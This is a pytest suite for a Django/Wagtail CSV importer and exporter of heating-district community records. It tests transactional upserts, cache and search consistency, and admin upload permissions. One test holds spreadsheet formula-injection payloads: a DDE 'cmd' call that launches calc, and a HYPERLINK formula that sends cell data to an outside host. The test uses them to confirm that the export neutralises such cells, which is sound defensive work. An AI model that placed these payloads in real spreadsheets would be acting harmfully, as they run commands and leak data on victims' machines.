"""Importing the directory into the database: upsert by code, all or nothing."""

import csv
import io

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.management import CommandError, call_command
from django.urls import reverse
from wagtail.models import ReferenceIndex

from contacts.directory_csv import DirectoryImportError, export_directory, import_directory
from contacts.models import Community, Station
from importers.directory_csv import HEADERS, DirectoryFileError
from tests.support import DATA

HEADER = ",".join(HEADERS)

pytestmark = pytest.mark.django_db


def test_gbk_file_from_a_spreadsheet_imports_and_reimport_changes_nothing():
    data = (DATA / "directory-gbk.csv").read_bytes()
    report = import_directory(data)
    assert sorted(report.created) == ["GBK-0001", "GBK-0002"]
    community = Community.objects.select_related("station").get(code="GBK-0002")
    assert (community.name, community.households, community.station.name) == (
        "北湖明珠",
        1200,
        "第五供热所",
    )
    assert "bhmz" in community.pinyin_key

    again = import_directory(data)
    assert (again.created, again.updated, again.unchanged) == ([], [], 2)
    assert Community.objects.filter(code__startswith="GBK-").count() == 2


def test_changed_rows_update_the_existing_community():
    import_directory((DATA / "directory-gbk.csv").read_bytes())
    data = f"{HEADER}\r\nGBK-0001,锦江花园,锦江,宽城区,铁北二路8号,650,第四供热所,刘师傅,0431-0000-5511\r\n"
    report = import_directory(data.encode())
    assert report.updated == ["GBK-0001"]
    community = Community.objects.get(code="GBK-0001")
    assert (community.households, community.station.name) == (650, "第四供热所")


def test_an_import_keeps_cached_pages_search_and_references_in_step(client, monkeypatch):
    """What saving one community at a time did through signals, the bulk import does after
    its transaction, batch by batch (here one community a batch): a cached community page
    shows the new name, search finds every community, each new community's reference to its
    station is in Wagtail's index."""
    monkeypatch.setattr("contacts.directory_csv.BATCH", 1)
    import_directory((DATA / "directory-gbk.csv").read_bytes())
    assert "/directory/GBK-0002/" in client.get("/search/?q=北湖明珠").content.decode()
    url = "/directory/GBK-0001/"
    client.get(url)
    assert client.get(url)["X-Page-Cache"] == "hit"
    renamed = f"{HEADER}\r\nGBK-0001,金桂苑,金桂,宽城区,铁北二路8号,640,第五供热所,刘师傅,0431-0000-5511\r\n"
    import_directory(renamed.encode())
    page = client.get(url)
    assert page.get("X-Page-Cache") != "hit" and "金桂苑" in page.content.decode()
    assert "/directory/GBK-0001/" in client.get("/search/?q=金桂苑").content.decode()
    station = ContentType.objects.get_for_model(Station)
    for community in Community.objects.filter(code__startswith="GBK-"):
        references = ReferenceIndex.get_references_for_object(community)
        assert references.filter(
            to_content_type=station, to_object_id=str(community.station_id)
        ).exists()


def test_a_file_with_one_bad_row_imports_nothing():
    before = set(Community.objects.values_list("code", "name", "households"))
    with pytest.raises(DirectoryImportError) as error:
        import_directory((DATA / "directory-bad-row.csv").read_bytes())
    messages = [str(e) for e in error.value.errors]
    assert messages[0].startswith("第3行：小区名称不能为空")
    assert messages[1] == "第4行：供热站“第十一供热所”不存在，请先在名录中添加该供热站"
    # The good first row was not written either.
    assert set(Community.objects.values_list("code", "name", "households")) == before


def test_export_then_import_is_a_no_op_for_the_whole_directory():
    total = Community.objects.count()
    report = import_directory(export_directory())
    assert (len(report.created), len(report.updated), report.unchanged) == (0, 0, total)


HOSTILE = {
    "name": "=cmd|' /C calc'!A0",
    "aliases": "+1+1",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "manager_name": '=HYPERLINK("http://x.cn/?"&A1)',
    "manager_phone": "+86 431 0000 5511",
}


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_exports_neutralise_formulas_and_import_them_back_unchanged(tmp_path):
    """CSV injection: a spreadsheet runs a cell starting with = + - @ as a formula. The export
    puts an apostrophe before it (shown as text); the import drops it again, so the export
    still round-trips: importing it changes nothing, and what it restores is the exact text."""
    community = Community.objects.order_by("code").first()
    Community.objects.filter(pk=community.pk).update(**HOSTILE)
    exported = export_directory()
    call_command("export_contacts", str(tmp_path / "directory.csv"))
    for data in (exported, (tmp_path / "directory.csv").read_bytes()):
        assert not [cell for cell in cells(data) if cell.startswith(("=", "+", "-", "@"))]
        for value in HOSTILE.values():
            assert "'" + value in cells(data)

    report = import_directory(exported)
    assert (report.created, report.updated) == ([], [])
    Community.objects.filter(pk=community.pk).update(
        **{field: "改过" for field in HOSTILE if field != "manager_phone"}, manager_phone=""
    )
    assert import_directory(exported).updated == [community.code]
    community.refresh_from_db()
    assert {field: getattr(community, field) for field in HOSTILE} == HOSTILE


def test_management_command_reports_success_and_failure(capsys):
    call_command("import_contacts", str(DATA / "directory-gbk.csv"))
    assert "新增2个小区" in capsys.readouterr().out
    with pytest.raises(CommandError) as error:
        call_command("import_contacts", str(DATA / "directory-bad-row.csv"))
    assert "没有导入任何数据" in str(error.value) and "第3行" in str(error.value)
    with pytest.raises(CommandError, match="无法读取文件"):
        call_command("import_contacts", str(DATA / "missing.csv"))


def test_unreadable_file_raises_file_error_and_writes_nothing():
    count = Community.objects.count()
    with pytest.raises(DirectoryFileError):
        import_directory(b"PK\x03\x04 not a csv")
    assert Community.objects.count() == count


class TestAdminUpload:
    url = "/admin/contacts/import/"

    def test_editor_uploads_a_good_file(self, client, editor, django_capture_on_commit_callbacks):
        client.force_login(editor)
        with (
            django_capture_on_commit_callbacks(execute=True),
            (DATA / "directory-gbk.csv").open("rb") as upload,
        ):
            response = client.post(self.url, {"file": upload})
        assert response.status_code == 302  # to the job's progress page
        progress = client.get(response["Location"]).content.decode()
        assert "导入完成：新增2个小区" in progress
        assert Community.objects.filter(code__startswith="GBK-").count() == 2
        assert "directory-gbk.csv" in client.get(self.url).content.decode()  # recent imports

    def test_bad_file_lists_errors_and_imports_nothing(
        self, client, editor, django_capture_on_commit_callbacks
    ):
        client.force_login(editor)
        with (
            django_capture_on_commit_callbacks(execute=True),
            (DATA / "directory-bad-row.csv").open("rb") as upload,
        ):
            response = client.post(self.url, {"file": upload})
        body = client.get(response["Location"]).content.decode()
        assert "没有导入任何数据" in body and "第4行：供热站“第十一供热所”不存在" in body
        assert not Community.objects.filter(code="GBK-0001").exists()

    def test_a_file_too_large_is_refused_at_once(self, client, editor, settings):
        settings.CONTACTS_CSV_MAX_BYTES = 10
        client.force_login(editor)
        with (DATA / "directory-gbk.csv").open("rb") as upload:
            response = client.post(self.url, {"file": upload})
        assert response.status_code == 400
        assert "文件过大" in response.content.decode()

    def test_csrf_is_required(self, editor):
        from django.test import Client

        strict = Client(enforce_csrf_checks=True, HTTP_HOST="localhost")
        strict.force_login(editor)
        with (DATA / "directory-gbk.csv").open("rb") as upload:
            response = strict.post(self.url, {"file": upload})
        assert response.status_code == 403
        assert not Community.objects.filter(code__startswith="GBK-").exists()

    def test_users_without_directory_permissions_are_refused(self, client, django_user_model):
        assert client.get(self.url).status_code == 302  # anonymous → login
        nobody = django_user_model.objects.create_user("nobody", password="x")
        client.force_login(nobody)
        assert client.get(self.url).status_code in (302, 403)
        assert client.get(reverse("contacts_export")).status_code in (302, 403)

    def test_export_downloads_every_community_as_excel_friendly_csv(self, client, editor):
        client.force_login(editor)
        response = client.get(reverse("contacts_export"))
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        body = response.content
        assert body.startswith("\ufeff".encode())
        assert body.decode("utf-8-sig").count("\r\n") == Community.objects.count() + 1
